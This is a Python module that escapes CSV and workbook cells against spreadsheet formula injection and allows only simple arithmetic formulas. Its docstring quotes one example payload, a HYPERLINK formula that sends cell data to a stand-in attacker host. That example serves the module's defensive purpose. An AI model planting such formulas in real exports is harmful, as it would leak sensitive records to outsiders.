"""Every cell the tool writes to a CSV file or a workbook goes through here.

Why one module: queue exports, scenario names, option sources and file names are input, and
spreadsheet programs run text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or CR) as
a formula. ``=HYPERLINK("http://evil.example/?"&B2, "click")`` in a device id would send other
cells (case references about children) to an outside address when clicked. So:

* CSV: text that starts with one of those characters gets a leading single quote (OWASP's rule
  for CSV injection), which spreadsheets show as text. Numbers stay numbers.
* XLSX: openpyxl makes a formula of any ``str`` that starts with ``=``; every string cell is
  forced to the string type, so nothing the tool writes is ever a formula. Characters that XLSX
  cannot hold (control characters) are dropped instead of failing the save.
* The live workbook's own formulas (totals, discounting) go through :func:`put_formula` only, which
  refuses anything but cell references, numbers, arithmetic and a short list of functions: no text
  literal, so no input text can ever enter a formula.

Workbooks also share one look: a bold filled header row, frozen under the header, and column
widths fitted to the contents, with real numbers and datetimes (never text) so they sort and sum.
"""
from __future__ import annotations

import csv
import datetime as dt
import json
import math
import re
from collections.abc import Iterable, Sequence
from typing import IO, Any

#: What a spreadsheet may read as the start of a formula (OWASP CSV injection list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# The characters XLSX (XML 1.0) cannot hold; openpyxl raises IllegalCharacterError on them.
_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

HEADER_FILL = "1F3864"
#: Pale yellow: the cells a finance officer may change (the live workbook's inputs).
INPUT_FILL = "FFF2CC"

#: What a formula written by the tool may contain: references ('Cost lines'!$B$4:B9), numbers,
#: arithmetic and these functions; never a text literal (no double quote).
FORMULA_FUNCTIONS = frozenset({"SUM", "SUMIF", "SUMPRODUCT"})
_FORMULA_CHARS = re.compile(r"^=[A-Za-z0-9$:!'+\-*/^()., ]+$")
_FUNCTION_CALL = re.compile(r"([A-Za-z_][A-Za-z0-9_.]*)\(")
MIN_WIDTH, MAX_WIDTH = 8, 60


def safe_text(value: Any) -> Any:
    """A CSV cell: text that a spreadsheet could run as a formula gets a leading ``'``; others unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [safe_text("" if v is None else v) for v in values]


def write_csv_rows(fh: IO[str], header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> None:
    """Header and rows to an open text file, every cell through :func:`safe_text`."""
    w = csv.writer(fh)
    w.writerow(csv_row(header))
    for r in rows:
        w.writerow(csv_row(r))


def xlsx_value(value: Any) -> Any:
    """What a workbook cell holds: numbers, booleans and datetimes as they are, the rest as text."""
    if value is None:
        return None
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return None if isinstance(value, float) and not math.isfinite(value) else value
    if isinstance(value, (dt.datetime, dt.date, dt.time)):
        return value
    if hasattr(value, "item") and not isinstance(value, (str, bytes)):  # numpy scalars
        return xlsx_value(value.item())
    text = json.dumps(value) if isinstance(value, (list, dict, tuple)) else str(value)
    return _ILLEGAL_XLSX.sub("", text)


def put(ws, row: int, column: int, value: Any, number_format: str | None = None):
    """Write one cell; a string is always stored as a string, never as a formula."""
    from openpyxl.styles.numbers import is_date_format

    c = ws.cell(row=row, column=column)
    c.value = xlsx_value(value)
    if isinstance(c.value, str):
        c.data_type = "s"
    elif number_format and c.value is not None and not isinstance(c.value, bool):
        # a date format only on dates, a number format only on numbers (a column may hold both)
        if is_date_format(number_format) == isinstance(c.value, (dt.date, dt.time)):
            c.number_format = number_format
    return c


def is_own_formula(formula: str) -> bool:
    """Whether ``formula`` has the shape of the tool's own formulas: arithmetic on cell references
    with only the functions of ``FORMULA_FUNCTIONS`` (never text, so never text from an input)."""
    return bool(_FORMULA_CHARS.match(formula)) and all(f.upper() in FORMULA_FUNCTIONS
                                                       for f in _FUNCTION_CALL.findall(formula))


def put_formula(ws, row: int, column: int, formula: str, number_format: str | None = None):
    """Write one of the tool's own formulas, refusing any text that is not plain arithmetic on references."""
    if not is_own_formula(formula):
        raise ValueError("refused to write a formula that is not arithmetic on cell references")
    c = ws.cell(row=row, column=column)
    c.value = formula
    if number_format:
        c.number_format = number_format
    return c


def mark_input(cell, note: str = "Input: change me; the totals recalculate.") -> None:
    """Style a cell as an input a reader may change (pale yellow, with a note)."""
    from openpyxl.comments import Comment
    from openpyxl.styles import PatternFill

    cell.fill = PatternFill("solid", fgColor=INPUT_FILL)
    cell.comment = Comment(note, "dfu-sched")


def _shown_length(v: Any, number_format: str | None) -> int:
    if v is None:
        return 0
    if isinstance(v, dt.datetime):
        return 16 if not number_format else len(number_format) + 2
    if isinstance(v, dt.date):
        return 10
    if isinstance(v, float):
        return len(f"{v:,.1f}")
    return max(len(line) for line in str(v).splitlines() or [""])


def write_sheet(wb, title: str, header: Sequence[Any], rows: Sequence[Sequence[Any]],
                formats: dict[int, str] | None = None, note: str | None = None, freeze_column: int = 1,
                max_width: int = MAX_WIDTH, ws=None):
    """A styled sheet: optional italic note, filled bold header row, frozen panes, fitted widths.

    ``formats`` maps a 0-based column to a number format (used for numbers and datetimes only).
    ``freeze_column`` is the first scrolling column (1: only the header row is frozen).
    ``ws``: fill this sheet instead of creating one (the workbook's first sheet).
    """
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    if ws is None:
        ws = wb.create_sheet(title=title[:31])
    else:
        ws.title = title[:31]
    formats = formats or {}
    r0 = 1
    if note:
        put(ws, 1, 1, note).font = Font(italic=True)
        r0 = 3
    fill = PatternFill("solid", fgColor=HEADER_FILL)
    for j, h in enumerate(header, start=1):
        c = put(ws, r0, j, h)
        c.font = Font(bold=True, color="FFFFFF")
        c.fill = fill
        c.alignment = Alignment(wrap_text=True, vertical="top")
    widths = [len(str(h)) for h in header]
    for i, row in enumerate(rows, start=r0 + 1):
        for j, v in enumerate(row, start=1):
            fmt = formats.get(j - 1)
            c = put(ws, i, j, v, fmt)
            if j > len(widths):
                widths.append(0)
            widths[j - 1] = max(widths[j - 1], _shown_length(c.value, fmt))
    ws.freeze_panes = ws.cell(row=r0 + 1, column=freeze_column)
    for j, w in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(j)].width = min(max_width, max(MIN_WIDTH, w + 2))
    return ws
